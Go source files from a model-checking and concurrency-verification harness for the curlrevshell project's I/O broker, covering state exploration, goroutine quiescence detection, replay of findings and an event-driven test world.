	r.Sample(4, c14Case{N: 65544, FD: "stdout", ReadR: 8, Input: "empty", Status: 0})
	/* A command that cannot be started: Go says so, and the output stream
	ends all the same. */
	for _, path := range []string{"/nonexistent/command", os.DevNull} {
		sh, err := simpleshell.NewCmdShell(exec.Command(path))
		r.Evaluations++
		if nil != err {
			continue /* Refused at once: nothing was opened. */
		}
		sh.SetInput(bytes.NewReader(nil))
		out := sh.Output()
		goErr := make(chan error, 1)
		go func() { goErr <- sh.Go(context.Background()) }()
		ended := make(chan error, 1)
		go func() { _, err := io.Copy(io.Discard, out); ended <- err }()
		rp := c14Case{FD: "none", Input: "command cannot be started: " + path}
		select {
		case err := <-goErr:
			if nil == err {
				r.Violate(ev.Violation{Signature: "failure-not-reported/unstartable", What: fmt.Sprintf("command %s cannot be started, Go returned nil", path), Kind: "c14go", Replay: rp})
			}
		case <-time.After(30 * time.Second):
			r.Violate(ev.Violation{Signature: "go-never-returns/unstartable", What: fmt.Sprintf("command %s cannot be started, Go did not return within 30 s", path), Kind: "c14go", Replay: rp})
		}
		select {
		case <-ended:
		case <-time.After(30 * time.Second):
			r.Violate(ev.Violation{Signature: "output-never-ends/unstartable", What: fmt.Sprintf("command %s cannot be started: Go has returned, the output stream is still open 30 s later", path), Kind: "c14go", Replay: rp})
		}
	}
	/* End to end through simpleshell.Go against a slow HTTPS server. */
	c14GoSeam(r)
	r.Assume("kernel pipe semantics and process reaping are trusted; the schedule axis is reduced to one owned choice (how much was read when the child is gone or blocked) plus an optional pause")
	r.Assume("EOF versus an error as the terminal condition of Output() after all bytes is not fixed by the statement; both are accepted")
}

func c14Replay(kind string, raw json.RawMessage) int {
	if "c14go" == kind {
		fmt.Println("findings of the end-to-end seam are replayed by re-running ./run C14 quick (it takes a second)")
		return 2
	}
	var c c14Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	if "" != c.Locale {
		os.Setenv("LC_ALL", c.Locale)
	}
	for i := 0; i < 5; i++ {
		sig, what := c14Run(c)
		fmt.Printf("run %d: %s %s\n", i+1, sig, what)
		if "" != sig {
			fmt.Println("reproduced")
			return 1
		}
	}
	fmt.Println("not reproduced")
	return 0
}
