package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"runtime/debug"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/bworld"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	workers["bworld"] = func([]string) int { return bworld.WorkerMain() }
}

// brokerReplay is the replay payload of broker-world violations.
type brokerReplay struct {
	Profile *bworld.Profile `json:"profile"`
	History []bworld.Event  `json:"history"`
	Text    string          `json:"history_text"`
}

// exploreProfiles runs the BFS for each profile and folds the outcome into r.
// Only violations of property r.Property are reported.
func exploreProfiles(r *ev.Result, budget time.Duration, profiles ...*bworld.Profile) {
	end := time.Now().Add(budget)
	var perProfile []map[string]any
	var unstable []string
	for i, p := range profiles {
		/* Each profile may use an equal share of what is left. */
		per := time.Until(end) / time.Duration(len(profiles)-i)
		res, err := bworld.Explore(p, ncpu(), time.Now().Add(per))
		if nil != err && strings.HasPrefix(err.Error(), "harness nondeterminism") {
			/* The program's behaviour is not a function of the history in
			this profile and none of its oracles failed.  That decides
			nothing - unless another profile pins the misbehaviour down. */
			unstable = append(unstable, fmt.Sprintf("exploring %s: %s", p.Name, err))
			r.Exhaustive = false
			continue
		}
		if nil != err {
			ev.Broken("exploring %s: %s", p.Name, err)
		}
		r.States += res.States
		r.Transitions += res.Transitions
		r.Evaluations += res.Execs
		r.Distinct += res.States
		r.Traces += res.Execs
		if !res.Exhaustive {
			r.Exhaustive = false
		}
		perProfile = append(perProfile, map[string]any{
			"profile":                        p.Name,
			"states":                         res.States,
			"transitions":                    res.Transitions,
			"executions":                     res.Execs,
			"steps":                          res.Steps,
			"depth":                          res.MaxDepth,
			"states_per_depth":               res.PerDepth,
			"exhaustive":                     res.Exhaustive,
			"cap":                            res.CapNote,
			"unstable_dropped":               res.Unstable,
			"unconfirmed_violations_dropped": res.Unconfirmed,
			"unconfirmed_note":               res.UnconfirmedNote,
			"bounds":                         p,
		})
		for _, s := range res.Samples {
			r.Sample(12, s)
		}
		for _, v := range res.Viols {
			if v.Prop != r.Property {
				continue
			}
			r.Violate(ev.Violation{
				Signature: v.Sig,
				What:      v.What,
				Kind:      "bworld",
				Replay:    brokerReplay{Profile: p, History: v.Hist, Text: bworld.HistString(v.Hist)},
			})
		}
	}
	if 0 != len(unstable) {
		if 0 == r.NViolations() {
			ev.Broken("%s", strings.Join(unstable, "; "))
		}
		r.Set("profiles_not_explorable", unstable)
	}
	r.Set("profiles", perProfile)
	r.Assume("granularity: broker critical sections (admission, release) and environment events; goroutines run natively between them (DESIGN.md 4.5)")
	r.Assume("quiescence is decided from runtime.Stack: sound because the world has no timers or kernel I/O")
}

// brokerReplayFunc replays a broker-world violation.
func brokerReplayFunc(kind string, raw json.RawMessage) int {
	switch kind {
	case "c02http", "c03http", "c04http", "c06http", "c04real", "c06real", "c11file", "c02insert", "c11stress", "c03stress":
		fmt.Printf("findings of kind %s (an HTTP seam or a session of the real binary) are replayed by re-running the quick check of the property: these parts take seconds; the failing case is in the artefact\n", kind)
		return 2
	}
	var br brokerReplay
	if err := json.Unmarshal(raw, &br); nil != err {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	w, _, err := bworld.RunHistory(br.Profile, br.History, nil, os.Stdout)
	if nil != err {
		fmt.Println("replay error:", err)
		return 2
	}
	w.Close()
	for _, v := range w.Viols {
		fmt.Printf("oracle %s %s: %s\n", v.Prop, v.Sig, v.What)
	}
	if 0 != len(w.Viols) {
		return 1
	}
	fmt.Println("no oracle failed")
	return 0
}

const brokerRule = "explicit-state BFS over the real iobroker.Broker: a state is an event history, successors replay it on a fresh broker and add one event, " +
	"states are deduplicated by a canonical form (broker fields, per-attempt half states sorted, stream flags, queue lengths); " +
	"distinct_nontrivial = distinct canonical states; evaluations = executions on the real broker"

func init() {
	/* bstress <violation.json> <n>: run one history n times and count the
	distinct final canonical states (a determinism probe). */
	workers["bstress"] = func(args []string) int {
		b, err := os.ReadFile(args[0])
		if nil != err {
			return 2
		}
		var v struct {
			Replay brokerReplay `json:"replay"`
		}
		if err := json.Unmarshal(b, &v); nil != err {
			return 2
		}
		n := 1000
		fmt.Sscan(args[1], &n)
		counts := map[string]int{}
		for i := 0; i < n; i++ {
			w, _, err := bworld.RunHistory(v.Replay.Profile, v.Replay.History, nil, nil)
			if nil != err {
				fmt.Println(err)
				return 2
			}
			counts[w.Canon()]++
			w.Close()
		}
		for c, k := range counts {
			fmt.Printf("%6d  %s\n", k, c)
		}
		return 0
	}
}

// seqRun runs one history in this process (used by the sequential payload
// enumerations) and returns the violations of property prop.  A violation is
// only believed if the same history shows it on five fresh worlds in a row;
// otherwise the check is broken (harness nondeterminism), not alarmed.
func seqRun(p *bworld.Profile, hist []bworld.Event, prop string) []bworld.Viol {
	once := func() []bworld.Viol {
		w, _, err := bworld.RunHistory(p, hist, nil, nil)
		if nil != err {
			ev.Broken("sequential run of %s: %s", bworld.HistString(hist), err)
		}
		w.Close()
		var out []bworld.Viol
		for _, v := range w.Viols {
			if v.Prop == prop {
				out = append(out, v)
			}
		}
		return out
	}
	vs := once()
	if 0 == len(vs) {
		return nil
	}
	for i := 0; i < 5; i++ {
		again := once()
		for _, v := range vs {
			found := false
			for _, a := range again {
				if a.Sig == v.Sig {
					found = true
				}
			}
			if !found {
				ev.Broken("harness nondeterminism: violation %s of history %s (profile %s) did not reproduce on replay %d", v.Sig, bworld.HistString(hist), p.Name, i+1)
			}
		}
	}
	return vs
}

// gcQuiet disables the collector for the duration of a sequential
// enumeration (collections are run explicitly between executions), so that no
// goroutine of a world is ever parked inside the runtime on the collector's
// behalf while the harness looks for quiescence.
func gcQuiet() func() {
	old := debug.SetGCPercent(-1)
	return func() { debug.SetGCPercent(old); runtime.GC() }
}
