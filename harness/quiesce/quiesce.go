// Package quiesce decides "the program has reacted completely to the last
// event": every goroutine except the caller is blocked.  It is sound only for
// in-memory worlds (no real timers, no kernel I/O in flight), where a blocked
// goroutine can become runnable only through an action of the caller.
package quiesce

import (
	"bytes"
	"fmt"
	"runtime"
	"strings"
	"time"
)

// G is one goroutine of a dump.
type G struct {
	ID     string
	State  string
	Frames string /* The whole text of the goroutine's stack. */
}

var buf = make([]byte, 1<<20)

// Dump returns all goroutines.
func Dump() []G {
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			return parse(buf[:n])
		}
		buf = make([]byte, 2*len(buf))
	}
}

func parse(b []byte) []G {
	var gs []G
	for _, blk := range bytes.Split(b, []byte("\n\n")) {
		if !bytes.HasPrefix(blk, []byte("goroutine ")) {
			continue
		}
		hdr, rest, _ := bytes.Cut(blk, []byte("\n"))
		/* goroutine 12 [chan receive, 2 minutes]: */
		h := string(hdr[len("goroutine "):])
		id, st, _ := strings.Cut(h, " [")
		st = strings.TrimSuffix(st, "]:")
		if i := strings.IndexByte(st, ','); i >= 0 {
			st = st[:i]
		}
		gs = append(gs, G{ID: id, State: st, Frames: string(rest)})
	}
	return gs
}

// blockedStates are the wait reasons in which a goroutine stays until some
// other goroutine (or the caller) acts.  Everything else — running, runnable,
// syscall, sleep, preempted, "GC assist wait", a stack copy, ... — counts as
// "may still make progress by itself".
var blockedStates = map[string]bool{
	"chan receive":            true,
	"chan send":               true,
	"chan receive (nil chan)": true,
	"chan send (nil chan)":    true,
	"select":                  true,
	"select (no cases)":       true,
	"semacquire":              true,
	"sync.Mutex.Lock":         true,
	"sync.RWMutex.Lock":       true,
	"sync.RWMutex.RLock":      true,
	"sync.Cond.Wait":          true,
	"sync.WaitGroup.Wait":     true,
	"IO wait":                 true,
	"finalizer wait":          true,
	"GC worker (idle)":        true,
	"GC sweep wait":           true,
	"GC scavenge wait":        true,
	"force gc (idle)":         true,
}

// busy reports whether g may still make progress by itself.
func busy(g G) bool {
	/* A goroutine inside the allocator or starting a collection is only
	waiting for the runtime (e.g. for the world semaphore this very dump
	holds), whatever its wait reason says. */
	if strings.Contains(g.Frames, "runtime.mallocgc(") || strings.Contains(g.Frames, "runtime.gcStart(") ||
		strings.Contains(g.Frames, "runtime.gcAssistAlloc") || strings.Contains(g.Frames, "runtime.stopTheWorld") {
		return true
	}
	/* A bare "semacquire" is a runtime-internal semaphore unless it comes
	from package sync. */
	if "semacquire" == g.State && !strings.Contains(g.Frames, "sync.runtime_Semacquire") {
		return true
	}
	if blockedStates[g.State] {
		return false
	}
	/* The signal-receiving goroutine sits in a syscall forever. */
	if "syscall" == g.State && strings.Contains(g.Frames, "os/signal.signal_recv") {
		return false
	}
	return true
}

// ExtraIdle, if not nil, reports goroutines which are to be treated as
// blocked whatever their state (e.g. a reader sitting in a read(2) on the
// terminal).
var ExtraIdle func(g G) bool

// Wait returns once every goroutine other than the caller is blocked, and
// returns that dump.  It panics after 30 s: a world which never settles is
// a broken harness (or a spinning program), not a verdict.
func Wait() []G {
	deadline := time.Now().Add(30 * time.Second)
	for i := 0; ; i++ {
		runtime.Gosched()
		gs := Dump()
		nRunning := 0
		quiet := true
		for _, g := range gs {
			if "running" == g.State {
				nRunning++
				if nRunning > 1 {
					quiet = false
				}
				continue
			}
			if nil != ExtraIdle && ExtraIdle(g) {
				continue
			}
			if busy(g) {
				quiet = false
			}
		}
		if quiet {
			return gs
		}
		if 0 == i%256 && time.Now().After(deadline) {
			var sb strings.Builder
			for _, g := range gs {
				if busy(g) {
					fmt.Fprintf(&sb, "goroutine %s [%s]\n%s\n\n", g.ID, g.State, g.Frames)
				}
			}
			panic("quiesce: world does not settle:\n" + sb.String())
		}
	}
}

// Count returns the number of goroutines in gs for which f is true.
func Count(gs []G, f func(G) bool) int {
	n := 0
	for _, g := range gs {
		if f(g) {
			n++
		}
	}
	return n
}
