// Package bworld is the "broker world": one real iobroker.Broker per
// execution, with every piece of its environment (streams, contexts, the
// operator channels, the log handler, the order of its critical sections)
// owned by the harness, so that "what happens next" is an explicit,
// enumerable event.
package bworld

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/quiesce"
	"github.com/magisterquis/curlrevshell/verifx/rcall"
)

// StartSpec is one kind of connection attempt a profile may start.
type StartSpec struct {
	Kind  string `json:"kind"` /* in | out | io */
	Key   string `json:"key"`
	WKind int    `json:"wkind"` /* 0 plain, 1 Flusher, 2 FlushError, 3 both */
	Max   int    `json:"max"`   /* At most this many attempts of this spec. */
}

// OutSpec is one thing a parked Read may return.
type OutSpec struct {
	Data string `json:"data"`
	Err  string `json:"err"` /* "", eof, ueof, closedpipe, other */
	Pad  int    `json:"pad"` /* If > len(Data): pad with a position-dependent pattern to this size. */
}

// Profile bounds one exploration.
type Profile struct {
	Name        string      `json:"name"`
	Starts      []StartSpec `json:"starts"`
	MaxAttempts int         `json:"max_attempts"`
	OchCap      int         `json:"och_cap"`
	MaxLines    int         `json:"max_lines"`
	Outs        []OutSpec   `json:"outs"`
	MaxOuts     int         `json:"max_outs"` /* Per attempt. */
	Cancel      bool        `json:"cancel"`
	Shutdown    bool        `json:"shutdown"`
	CloseIn     bool        `json:"closein"`
	WFail       bool        `json:"wfail"`
	LateStarts  bool        `json:"late_starts,omitempty"` /* Attempts also arrive after Broker.Do has returned (a handler that was already running). */
	WFailLater  bool        `json:"wfail_later,omitempty"` /* Also: the next write succeeds, the one after it fails. */
	MaxConsume  int         `json:"max_consume"`           /* Only with a small och. */
	Await       bool        `json:"await,omitempty"`       /* The operator's side may also be found waiting for the next item. */
	/* LateOut: a Read that is pending when the Connect call returns stays
	pending (as net/http's does: closing the request body waits for it) and
	may still be handed one more chunk. */
	LateOut  bool     `json:"late_out,omitempty"`
	Oracles  []string `json:"oracles"`
	MaxDepth int      `json:"max_depth"`
	/* LinePayload, if set, is appended to every entered line. */
	LinePayload string `json:"line_payload"`
	/* GateAdmitted also parks every admitted stream right after the
	admission section was left (before its proxy starts) until a "proceed"
	event: the window between "attached" and "running". */
	GateAdmitted bool `json:"gate_admitted"`
	/* LogGate parks a stream inside its admission, at its "New connection"
	log record (a slow log), until a "logproceed" event: other admissions
	can be started meanwhile and must wait for the broker's lock. */
	LogGate bool `json:"log_gate"`
	/* ViaChanWriter enters lines through opshell.ChanWriter, as Ctrl+I does. */
	ViaChanWriter bool `json:"via_chanwriter"`
	/* JSONLog also sends every record through a real slog JSON handler. */
	JSONLog bool `json:"json_log"`
}

func (p *Profile) has(o string) bool {
	for _, x := range p.Oracles {
		if x == o {
			return true
		}
	}
	return false
}

// Roomy reports whether the operator channel never fills.
func (p *Profile) Roomy() bool { return p.OchCap >= 64 }

// Event is one thing the explorer can make happen.
type Event struct {
	Op   string `json:"op"`
	A    int    `json:"a,omitempty"`
	Dir  string `json:"dir,omitempty"`
	Spec int    `json:"spec,omitempty"`
	Arg  int    `json:"arg,omitempty"`
}

func (e Event) String() string {
	switch e.Op {
	case "start":
		return fmt.Sprintf("start(spec%d)", e.Spec)
	case "admit", "release", "proceed", "logproceed":
		return fmt.Sprintf("%s(a%d,%s)", e.Op, e.A, e.Dir)
	case "out", "outcancel":
		return fmt.Sprintf("%s(a%d,o%d)", e.Op, e.A, e.Arg)
	case "linecancel":
		return fmt.Sprintf("linecancel(a%d)", e.A)
	case "wfail":
		return fmt.Sprintf("wfail(a%d,%s)", e.A, [...]string{"write", "flush", "second-write"}[e.Arg])
	case "cancel":
		return fmt.Sprintf("cancel(a%d)", e.A)
	}
	return e.Op
}

// halfState is where one direction of one attempt is.
type halfState int

const (
	hNone         halfState = iota /* Not arrived at the admit gate yet. */
	hParkAdmit                     /* Parked in front of the admission section. */
	hInAdmission                   /* Gate opened; neither attached nor finished yet. */
	hParkAdmitted                  /* Admitted, parked before the proxy starts (GateAdmitted). */
	hAttached                      /* Admitted, proxy running. */
	hParkRelease                   /* Proxy ended, parked in front of the release section. */
	hReleasing                     /* Release gate opened, not finished yet. */
	hDone                          /* connect returned. */
)

var halfStateNames = [...]string{"none", "park-admit", "in-admission", "park-admitted", "attached", "park-release", "releasing", "done"}

type half struct {
	a            *attempt
	dir          string /* input | output */
	st           halfState
	gate         chan struct{}
	everAttached bool
	logGate      chan struct{} /* Non-nil while parked at the log gate. */
	/* Model's view. */
	mDecided bool
	mAccept  bool
	mReason  string /* Why the model refuses it. */
	mSilent  bool   /* Refused for shutdown: no notice required. */
}

type attemptKey struct{}

type attempt struct {
	id        int
	spec      int
	kind      string
	key       string
	addr      string
	ctx       context.Context
	cancel    context.CancelFunc
	cancelled bool
	returned  bool
	w         *recWriter
	r         *scriptReader
	halves    map[string]*half
	outsUsed  int
	outSeq    []int /* Which read results were supplied, in order. */
	/* Oracle memory. */
	linesGot []string /* Complete entries (write + flush) received. */
	c11n     int      /* Entries already matched with log records. */
}

func (a *attempt) halfList() []*half {
	var hs []*half
	for _, d := range []string{"input", "output"} {
		if h, ok := a.halves[d]; ok {
			hs = append(hs, h)
		}
	}
	return hs
}

// Viol is an oracle failure.
type Viol struct {
	Prop string
	Sig  string
	What string
}

// Step is what was observed in reaction to one event.
type Step struct {
	Ev       Event
	Notices  []opshell.CLine
	Logs     []LogRec
	Events   []iobroker.Event
	Returned []int
	DoRet    bool
}

// World is one execution.
type World struct {
	P   *Profile
	b   *iobroker.Broker
	ich chan string
	och chan opshell.CLine
	lh  *logHandler
	evL chan iobroker.Event

	root       context.Context
	rootCancel context.CancelFunc
	doRet      chan error
	doReturned bool
	doSeq      atomic.Int64 /* Position of Do's return in the global order of log records. */
	shutdown   bool
	ichClosed  bool
	freeRun    bool /* Teardown: gates no longer block. */

	mu       sync.Mutex /* Guards what hooks and harness goroutines touch. */
	attempts []*attempt
	usage    []int
	retQ     []int /* Attempts whose Connect* returned since the last step. */
	lateOutA int   /* The attempt handed a chunk after its Connect* had returned, in this step (-1: none). */

	linesEntered      int
	entered           []string
	consumed          int
	plainSeen         int
	noticeSeen        int
	stalledNotices    []string /* Non-plain notices taken so far (unbuffered och only). */
	cumReady, cumGone int
	awaiting          bool /* A receiver of the operator's side is parked on och. */
	awaitCh           chan opshell.CLine
	awaitStop         chan struct{}

	m     model
	Viols []Viol
	Hist  []Event

	/* Transcript pieces for oracles. */
	delivered int /* Number of entered lines completely delivered to some shell. */
	lastGS    []quiesce.G
	old       map[string]bool /* Goroutines that existed before this world. */
	genNotice genNotices
	c11       c11State
	c03       map[int]*c03State
}

// hookMu serialises installation of the global hook; one world at a time.
var current *World

// New builds a world with the broker's Do running.
func New(p *Profile) *World {
	w := &World{
		P:         p,
		ich:       make(chan string, 64),
		och:       make(chan opshell.CLine, p.OchCap),
		lh:        newLogHandler(p.JSONLog),
		evL:       make(chan iobroker.Event, 1024),
		doRet:     make(chan error, 1),
		awaitCh:   make(chan opshell.CLine, 1),
		awaitStop: make(chan struct{}),
		usage:     make([]int, len(p.Starts)),
		c03:       map[int]*c03State{},
	}
	var err error
	if w.b, err = newBroker(w.ich, w.och); nil != err {
		panic(err)
	}
	w.b.AddEventListener(w.evL)
	w.root, w.rootCancel = context.WithCancel(context.Background())
	current = w
	if p.LogGate {
		w.lh.st.gate = w.logGate
	}
	iobroker.VerifHook = hook
	w.old = map[string]bool{}
	for _, g := range quiesce.Dump() {
		w.old[g.ID] = true /* Leftovers of earlier executions are not ours. */
	}
	go func() {
		err := w.b.Do(w.root)
		w.doSeq.Store(seq.Add(1))
		w.doRet <- err
	}()
	w.lastGS = quiesce.Wait()
	return w
}

// logGate parks the goroutine logging a "New connection" record.
func (w *World) logGate(rec LogRec) {
	if iobroker.LMNewConnection != rec.Msg {
		return
	}
	var id int
	if _, err := fmt.Sscan(rec.Attrs["attempt"], &id); nil != err {
		return
	}
	w.mu.Lock()
	if w.freeRun || id >= len(w.attempts) {
		w.mu.Unlock()
		return
	}
	h := w.attempts[id].halves[rec.Attrs[iobroker.LKDirection]]
	if nil == h {
		w.mu.Unlock()
		return
	}
	ch := make(chan struct{})
	h.logGate = ch
	w.mu.Unlock()
	<-ch
}

// hook is installed as iobroker.VerifHook.
func hook(ctx context.Context, point, dir, key string) {
	a, _ := ctx.Value(attemptKey{}).(*attempt)
	w := current
	if nil == a || nil == w {
		return
	}
	w.mu.Lock()
	h := a.halves[dir]
	if nil == h {
		/* A direction this attempt never asked for. */
		w.violLocked("C01", "hook-unknown-half", fmt.Sprintf("attempt a%d (%s) reached %s for direction %s", a.id, a.kind, point, dir))
		w.mu.Unlock()
		return
	}
	free := w.freeRun
	switch point {
	case "admit":
		h.st = hParkAdmit
	case "admitted":
		h.st = hAttached
		if w.P.GateAdmitted && !free {
			h.st = hParkAdmitted
		}
		h.everAttached = true
	case "release":
		h.st = hParkRelease
	case "done":
		h.st = hDone
	}
	gate := h.gate
	w.mu.Unlock()
	if ("admit" == point || "release" == point || ("admitted" == point && w.P.GateAdmitted)) && !free {
		<-gate
		if "admitted" == point {
			w.mu.Lock()
			h.st = hAttached
			w.mu.Unlock()
		}
	}
}

func (w *World) viol(prop, sig, what string) {
	w.mu.Lock()
	w.violLocked(prop, sig, what)
	w.mu.Unlock()
}

func (w *World) violLocked(prop, sig, what string) {
	if !w.P.has(prop) {
		return
	}
	for _, v := range w.Viols {
		if v.Prop == prop && v.Sig == sig {
			return
		}
	}
	w.Viols = append(w.Viols, Viol{Prop: prop, Sig: sig, What: what})
}

// Enabled lists the events possible in the current (quiescent) state.
func (w *World) Enabled() []Event {
	var evs []Event
	p := w.P
	mid := false /* Some half is inside a critical section (small och only). */
	for _, a := range w.attempts {
		for _, h := range a.halfList() {
			if hInAdmission == h.st || hReleasing == h.st {
				mid = true
			}
		}
	}
	if p.LogGate {
		/* Someone parked at the log gate is "mid-section" by design:
		everything else stays possible. */
		mid = false
		for _, a := range w.attempts {
			for _, h := range a.halfList() {
				if nil != h.logGate {
					evs = append(evs, Event{Op: "logproceed", A: a.id, Dir: h.dir})
				}
			}
		}
	}
	if len(w.attempts) < p.MaxAttempts && (!w.doReturned || p.LateStarts) {
		for i, s := range p.Starts {
			if w.usage[i] < s.Max {
				evs = append(evs, Event{Op: "start", Spec: i})
			}
		}
	}
	for _, a := range w.attempts {
		for _, h := range a.halfList() {
			if mid {
				continue
			}
			switch h.st {
			case hParkAdmit:
				/* An input stream admitted with its context already
				cancelled AND lines queued would enter a select with
				two ready cases (Go picks at random).  Both outcomes
				equal other explored orders (admit, line, cancel /
				admit, cancel, line), so that corner is left out
				rather than sampled. */
				if "input" == h.dir && a.cancelled && len(w.ich) > 0 {
					continue
				}
				evs = append(evs, Event{Op: "admit", A: a.id, Dir: h.dir})
			case hParkAdmitted:
				if "input" == h.dir && a.cancelled && len(w.ich) > 0 {
					continue /* Same two-ready-cases corner as above. */
				}
				evs = append(evs, Event{Op: "proceed", A: a.id, Dir: h.dir})
			case hParkRelease:
				evs = append(evs, Event{Op: "release", A: a.id, Dir: h.dir})
			}
		}
	}
	if w.linesEntered < p.MaxLines && !w.ichClosed {
		evs = append(evs, Event{Op: "line"})
		/* "Simultaneous" pair: the line is handed to the waiting input
		proxy and, before that goroutine gets to run, its context is
		cancelled (client gone while the line is in the proxy's hands).
		Deterministic: the proxy's select was already won by the line. */
		if p.Cancel && 0 == len(w.ich) {
			for _, a := range w.attempts {
				if h, ok := a.halves["input"]; ok && hAttached == h.st && !a.cancelled && !a.returned {
					evs = append(evs, Event{Op: "linecancel", A: a.id})
				}
			}
		}
	}
	for _, a := range w.attempts {
		if nil != a.r && a.r.isParked() && a.outsUsed < p.MaxOuts {
			for i := range p.Outs {
				evs = append(evs, Event{Op: "out", A: a.id, Arg: i})
			}
			/* "Simultaneous" pair: the parked Read returns and, before
			the reading goroutine runs, the context is cancelled. */
			if p.Cancel && !a.cancelled && !a.returned && hAttached == a.halves["output"].st {
				evs = append(evs, Event{Op: "outcancel", A: a.id, Arg: 0})
			}
		}
		if p.WFail && nil != a.w && !a.returned {
			if h := a.halves["input"]; hAttached == h.st || hParkAdmit == h.st {
				if !a.w.failW && !a.w.failF {
					evs = append(evs, Event{Op: "wfail", A: a.id, Arg: 0})
					if a.w.kind >= 2 { /* http.Flusher.Flush cannot report a failure. */
						evs = append(evs, Event{Op: "wfail", A: a.id, Arg: 1})
					}
					if p.WFailLater && 0 == a.w.failLater {
						evs = append(evs, Event{Op: "wfail", A: a.id, Arg: 2})
					}
				}
			}
		}
		if (p.Cancel || w.shutdown) && !a.cancelled && !a.returned {
			evs = append(evs, Event{Op: "cancel", A: a.id})
		}
	}
	if !p.Roomy() && w.consumed < p.MaxConsume && !w.awaiting {
		evs = append(evs, Event{Op: "consume"})
		if p.Await {
			/* The operator's side goes to wait for the next item: it takes
			what a blocked sender offers (like consume) or, if nobody is
			offering, whatever is offered next, at once. */
			evs = append(evs, Event{Op: "await"})
		}
	}
	if p.Shutdown && !w.shutdown && !mid {
		evs = append(evs, Event{Op: "shutdown"})
	}
	if p.CloseIn && !w.ichClosed {
		evs = append(evs, Event{Op: "closein"})
	}
	return evs
}

// Do makes e happen, waits for the world to settle, collects what was
// observed, advances the reference model and runs the oracles.
func (w *World) Do(e Event) *Step {
	st := &Step{Ev: e}
	w.Hist = append(w.Hist, e)
	pre := w.snapshotHalves()
	w.lateOutA = -1
	switch e.Op {
	case "start":
		w.start(e.Spec)
	case "admit":
		h := w.attempts[e.A].halves[e.Dir]
		w.m.admit(w, h)
		w.mu.Lock()
		h.st = hInAdmission
		w.mu.Unlock()
		h.gate <- struct{}{}
	case "proceed":
		h := w.attempts[e.A].halves[e.Dir]
		h.gate <- struct{}{}
	case "logproceed":
		h := w.attempts[e.A].halves[e.Dir]
		w.mu.Lock()
		ch := h.logGate
		h.logGate = nil
		w.mu.Unlock()
		close(ch)
	case "release":
		h := w.attempts[e.A].halves[e.Dir]
		w.m.release(w, h)
		w.mu.Lock()
		h.st = hReleasing
		w.mu.Unlock()
		h.gate <- struct{}{}
	case "line":
		l := fmt.Sprintf("L%d%s", w.linesEntered, w.P.LinePayload)
		w.linesEntered++
		w.entered = append(w.entered, l)
		if w.P.ViaChanWriter {
			/* The way Ctrl+I enters its payload. */
			if n, err := opshell.ChanWriter(w.ich).Write([]byte(l)); nil != err || n != len(l) {
				w.viol("C02", "chanwriter-short-write", fmt.Sprintf("ChanWriter.Write returned %d, %v for %d bytes", n, err, len(l)))
			}
		} else {
			w.ich <- l
		}
	case "linecancel":
		a := w.attempts[e.A]
		l := fmt.Sprintf("L%d%s", w.linesEntered, w.P.LinePayload)
		w.linesEntered++
		w.entered = append(w.entered, l)
		a.cancelled = true
		w.ich <- l
		a.cancel()
	case "out", "outcancel":
		a := w.attempts[e.A]
		a.outsUsed++
		a.outSeq = append(a.outSeq, e.Arg)
		o := w.P.Outs[e.Arg]
		data := strings.ReplaceAll(o.Data, "#", fmt.Sprintf("%d.%d", a.id, a.outsUsed))
		if o.Pad > len(data) {
			pad := make([]byte, o.Pad-len(data))
			for i := range pad {
				pad[i] = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ+/"[(i*7+i/64+a.outsUsed*13)%64]
			}
			data += string(pad)
		}
		w.c03For(a).supplied = append(w.c03For(a).supplied, data...)
		if "" != o.Err {
			w.c03For(a).ended = o.Err
		}
		a.r.supply([]byte(data), outErr(o.Err))
		if a.returned {
			/* A late chunk: the pending Read took it; the stream is
			closed to any further one. */
			w.lateOutA = a.id
			w.c03For(a).disturbed = true
			a.r.close()
		}
		if "outcancel" == e.Op {
			a.cancelled = true
			a.cancel()
			w.c03For(a).disturbed = true
		}
	case "wfail":
		a := w.attempts[e.A]
		if 2 == e.Arg {
			a.w.setFailLater(1)
		} else if 0 == e.Arg {
			a.w.setFail(true, false)
		} else {
			a.w.setFail(false, true)
		}
	case "cancel":
		a := w.attempts[e.A]
		a.cancelled = true
		a.cancel()
	case "consume":
		select {
		case cl := <-w.och:
			w.consumed++
			st.Notices = append(st.Notices, cl)
		default:
		}
	case "await":
		w.awaiting = true
		go func() {
			select {
			case cl := <-w.och:
				w.awaitCh <- cl
			case <-w.awaitStop:
			}
		}()
	case "shutdown":
		w.shutdown = true
		w.m.noMore = true
		w.rootCancel()
	case "closein":
		w.ichClosed = true
		close(w.ich)
	default:
		panic("unknown event " + e.Op)
	}
	w.settle(st)
	w.observe(st, pre)
	return st
}

// settle waits for quiescence and collects observations into st.
func (w *World) settle(st *Step) {
	for {
		w.lastGS = quiesce.Wait()
		moved := false
		if w.P.Roomy() {
			for {
				select {
				case cl := <-w.och:
					st.Notices = append(st.Notices, cl)
					continue
				default:
				}
				break
			}
		}
		if w.awaiting {
			select {
			case cl := <-w.awaitCh:
				w.awaiting = false
				w.consumed++
				st.Notices = append(st.Notices, cl)
				moved = true
			default:
			}
		}
		/* Connect calls which returned: the transport closes the stream,
		as net/http does when a handler returns. */
		w.mu.Lock()
		q := w.retQ
		w.retQ = nil
		w.mu.Unlock()
		for _, id := range q {
			a := w.attempts[id]
			a.returned = true
			st.Returned = append(st.Returned, id)
			if nil != a.r && !(w.P.LateOut && a.r.isParked()) {
				a.r.close()
				moved = true
			}
		}
		if !w.doReturned {
			select {
			case <-w.doRet:
				w.doReturned = true
				st.DoRet = true
			default:
			}
		}
		if !moved {
			break
		}
	}
	for {
		select {
		case ev := <-w.evL:
			st.Events = append(st.Events, ev)
			continue
		default:
		}
		break
	}
	st.Logs = w.lh.take()
}

func (w *World) start(spec int) {
	s := w.P.Starts[spec]
	w.usage[spec]++
	a := &attempt{
		id:     len(w.attempts),
		spec:   spec,
